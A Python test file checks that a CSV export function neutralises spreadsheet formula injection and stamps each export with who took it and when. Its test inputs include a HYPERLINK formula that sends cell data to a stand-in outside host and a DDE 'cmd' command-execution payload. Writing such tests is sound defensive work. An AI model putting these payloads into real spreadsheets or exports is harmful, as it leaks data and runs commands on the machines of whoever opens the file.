"""A table that left computes nothing wherever it is opened, and says who took it."""

import csv
from datetime import UTC, datetime
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amana.look.export import csv_of, export_text_safe

AT = datetime(2026, 11, 22, 4, 10, tzinfo=UTC)
COMPUTED = "=+-@＝＋－＠"
# Texts in which what is dangerous is common.
TYPED = st.text(
    st.one_of(st.sampled_from(COMPUTED + ",;|\t\r\n\"' \u200b\ufeff'"), st.characters())
)


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://elsewhere.example/?"&A1)',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u200b=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "Awa;=1",
        'Awa",=1',
    ],
)
def test_what_a_spreadsheet_would_compute_is_said_to_be_text(typed: str) -> None:
    assert export_text_safe(typed) != typed
    assert export_text_safe(typed).replace("'", "") == typed.replace("'", "")


@pytest.mark.parametrize("typed", ["Awa", "a=b", "Abengourou-Est", "", "2026-11-22", "x@y.example"])
def test_ordinary_words_stay_as_they_are(typed: str) -> None:
    assert export_text_safe(typed) == typed


def test_a_number_stays_a_number_and_nothing_is_an_empty_cell() -> None:
    assert [export_text_safe(v) for v in (-5, 0.5, None)] == ["-5", "0.5", ""]


@given(st.lists(st.lists(TYPED, min_size=1, max_size=3), max_size=3), TYPED)
def test_no_cell_computes_whatever_parts_the_cells(rows: list[list[str]], by: str) -> None:
    text = csv_of(rows, by=by, at=AT).removeprefix("\ufeff")

    for sign in ",;\t|":
        for row in csv.reader(StringIO(text, newline=""), delimiter=sign):
            for cell in row:
                assert cell.lstrip(' \t\r\n"\u200b\ufeff')[:1] not in tuple(COMPUTED), (sign, cell)
                assert cell[:1] not in ("\t", "\r")


@given(st.lists(st.lists(TYPED, min_size=1, max_size=3), max_size=3))
def test_every_row_arrives_and_the_last_line_says_who_and_when(rows: list[list[str]]) -> None:
    text = csv_of(rows, by="Koffi Inventé", at=AT)

    read = list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [len(row) for row in read] == [*(len(row) for row in rows), 2]
    assert read[-1] == ["Koffi Inventé", "2026-11-22T04:10:00+00:00"]
